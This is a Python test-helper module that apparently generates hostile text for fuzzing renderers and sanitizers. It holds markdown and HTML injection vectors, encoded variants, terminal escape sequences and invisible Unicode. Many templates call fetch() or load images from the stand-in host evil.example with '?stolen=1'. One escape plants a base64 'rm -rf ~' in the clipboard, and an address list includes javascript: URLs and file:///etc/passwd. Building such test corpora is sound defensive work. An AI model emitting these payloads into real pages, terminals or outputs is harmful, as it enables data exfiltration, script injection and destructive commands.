"""Texts that would act if anything took them for more than text: markup, addresses, scripts, commands to a terminal."""

from __future__ import annotations

import random
from dataclasses import dataclass

__all__ = ["Payload", "addresses", "payload", "payloads"]

_MARKDOWN = (
    "![{t}]({u})",
    "![{t}][r]\n\n[r]: {u}",
    "[{t}]({u})",
    "[{t}]({j})",
    "<{u}>",
    "{u}",
    "![{t}](<{u}>)",
    "[![{t}]({u})]({u})",
    '![{t}]({u} "{t}")',
    "`{t}` ![x]({u})",
    "![{t}\n]({u})",
    "* ![{t}]({u})",
    "> ![{t}]({u})",
    "[^1]: ![{t}]({u})",
    "![{t}][]\n\n[{t}]: {u}",
    "&#33;&#91;{t}&#93;&#40;{u}&#41;",
    "# [{t}]({j})",
    "|a|\n|-|\n|![{t}]({u})|",
    "[{t}](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "\\![{t}]({u})",
    "\\\\![{t}]({u})",
)
_HTML = (
    "<img src={u}>",
    "<img src='x' onerror=\"fetch('{u}')\">",
    "<img srcset='{u} 2x'>",
    "<svg onload=fetch('{u}')>",
    "<svg><image href='{u}'/></svg>",
    "<svg><use href='{u}#a'/></svg>",
    "<video src={u} autoplay poster={u}></video>",
    "<audio src={u} autoplay></audio>",
    "<picture><source srcset={u}><img></picture>",
    "<iframe src={u}></iframe>",
    "<iframe srcdoc=\"<script>fetch('{u}')</script>\"></iframe>",
    "<object data={u}></object>",
    "<embed src={u}>",
    "<link rel=stylesheet href={u}>",
    "<link rel=prefetch href={u}>",
    "<meta http-equiv=refresh content='0;url={u}'>",
    "<base href='{u}'>",
    "<script src={u}></script>",
    "<script>fetch('{u}')</script>",
    "<style>@import url({u});</style>",
    '<p style="background:url({u})">',
    "<div style='list-style-image:url({u})'>{t}</div>",
    "<a href='{j}'>{t}</a>",
    "<a href={u} ping={u}>{t}</a>",
    "<form action={u}><button>{t}</button></form><script>document.forms[0].submit()</script>",
    "<input autofocus onfocus=fetch('{u}')>",
    "<details open ontoggle=fetch('{u}')>",
    "<body onload=fetch('{u}')>",
    "<math href='{j}'>{t}</math>",
    "<isindex action={u}>",
    "<table background={u}>",
    "<input type=image src={u}>",
    "<frameset><frame src={u}></frameset>",
    "<marquee onstart=fetch('{u}')>",
    "<portal src={u}>",
    "<template><img src={u}></template>",
    '<noscript><p title="</noscript><img src={u}>">',
    "<xss onpointerenter=1 style=a>",
    "<svg><style>*{{background:url({u})}}</style></svg>",
    "<svg><animate onbegin=fetch('{u}') attributeName=x dur=1s>",
    "<img/src='{u}'/onerror=fetch('{u}')>",
    "<scr<script>ipt src={u}></script>",
    '<IMG SRC="{u}">',
    "<img\nsrc={u}\n>",
    "<!--><img src={u}>-->",
    "<![CDATA[<img src={u}>]]>",
    "<button type=button data-do=retry onclick=fetch('{u}')>",
)
_ENCODED = (
    "&lt;img src={u}&gt;",
    "&#60;img src={u}&#62;",
    "%3Cimg%20src={u}%3E",
    "\\u003cimg src={u}\\u003e",
    "＜img src={u}＞",
    "&amp;lt;img src={u}&amp;gt;",
    "&#x3c;script&#x3e;fetch('{u}')",
    "\x3cimg src={u}\x3e",
    "${{fetch('{u}')}}",
    "{{{{constructor.constructor('fetch(\"{u}\")')()}}}}",
    "$question $words ${{language}}",
    "%(question)s {{0}}",
)
_TERMINAL = (
    "\x1b[2J\x1b[H{t}",
    "\x1b]52;c;cm0gLXJmIH4=\x07",
    "\x1b]8;;{u}\x1b\\{t}\x1b]8;;\x1b\\",
    "\x1b]0;{t}\x07",
    "\x1bP+q544e\x1b\\",
    "\x1b[6n",
    "\x1b[?1049h{t}",
    "\x1b[8m{t}",
    "\x9b31m{t}",
    "\x9d52;c;{t}\x9c",
    "\r{t}\x1b[K",
    "{t}\x08\x08\x08",
    "\x1b[1;31m{t}",
    "\x1b_G{t}\x1b\\",
    "\x1b^{t}\x1b\\",
    "\x1b]1337;File=inline=1:{t}\x07",
    "\x1bc",
    "\x0e{t}\x0f",
    "\x7f{t}",
    "\x1b[3J{t}",
    "\x1b(0{t}",
    "\x1b]4;1;?\x07",
    "\x1b\x1b[2J",
    "\x1b]52;c;\nZXZpbA==\x07",
    "\x1b[201~rm\n",
)
_UNSEEN = (
    "\u202e{t}\u202c",
    "\u2066{t}\u2069",
    "\u200f{t}",
    "{t}\U000e0041\U000e0042",
    "\ufeff{t}",
    "\u2028{t}\u2029",
    "\u061c{t}",
    "a\u202eb\u202dc {t}",
    "{t}\x85{t}",
    "\ud800{t}",
    "\ufffe{t}",
    "\x00{t}",
)
_BEFORE = (
    "",
    "",
    '"',
    "'",
    '">',
    "'>",
    "--></p>",
    "</script>",
    "</textarea>",
    "</title>",
    "]]>",
    "</style>",
    '"/><p ',
    "</q></p>",
    "\n\n",
    "`",
    "\\",
    "</template>",
    "</button>",
    '" autofocus onfocus="x" ',
)
_WORDS = ("The bridge", "Supported", "mayor", "9.1 million", "Venlo")
_KINDS = (("markdown", _MARKDOWN), ("html", _HTML), ("encoded", _ENCODED), ("terminal", _TERMINAL), ("unseen", _UNSEEN))


@dataclass(frozen=True, slots=True)
class Payload:
    """A hostile text.

    Attributes:
        kind: "markdown", "html", "encoded", "terminal" or "unseen".
    """

    kind: str
    text: str


def payload(number: int, seed: int = 0, host: str = "http://evil.example") -> Payload:
    """Returns a payload; each template comes once for as many numbers as there are templates, each time otherwise.

    Args:
        host: Scheme, name and port of the server that the payload wants to reach.
    """
    drawn = random.Random(f"{seed}/{number}")  # noqa: S311 - attacks that can be made again
    templates = [(kind, template) for kind, group in _KINDS for template in group]
    kind, template = templates[number % len(templates)]
    target = f"{host}/{kind}/{number}?stolen=1"
    text = template.format(t=drawn.choice(_WORDS), u=target, j=f"javascript:fetch('{target}')")
    text = drawn.choice(_BEFORE) + text + drawn.choice(_BEFORE)
    if drawn.random() < 0.25:
        other = templates[drawn.randrange(len(templates))][1]
        text += " " + other.format(t="and", u=target, j=f"JaVaScRiPt:fetch('{target}')")
    return Payload(kind, text if drawn.random() > 0.1 else text.swapcase().replace("HTTP", "http"))


def payloads(count: int, seed: int = 0, host: str = "http://evil.example") -> list[Payload]:
    """Returns the first payloads of a seed."""
    return [payload(number, seed, host) for number in range(count)]


def addresses(number: int, host: str = "http://evil.example") -> str:
    """Returns an address as an article may name it as its own, which must never become more than a web link."""
    told = (
        "javascript:fetch('{h}/u')",
        "data:text/html,<script>1</script>",
        "vbscript:x",
        " javascript:x",
        "JAVASCRIPT:x",
        "java\tscript:x",
        "\x01javascript:x",
        'https://a.example/" onclick="x',
        "https://a.example/<img src={h}>",
        "http://a.example/'onfocus='x",
        "file:///etc/passwd",
        "blob:x",
        "//evil.example/x",
        "https:javascript:x",
    )
    return told[number % len(told)].format(h=host)
